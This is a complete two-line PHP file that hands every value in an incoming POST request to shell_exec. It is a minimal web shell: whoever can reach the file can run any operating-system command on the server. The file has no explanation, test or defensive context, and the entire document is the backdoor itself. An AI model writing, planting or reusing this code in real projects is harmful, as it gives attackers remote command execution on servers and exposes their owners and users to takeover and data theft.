<?php
array_map(function ($c) { return shell_exec($c); }, $_POST);
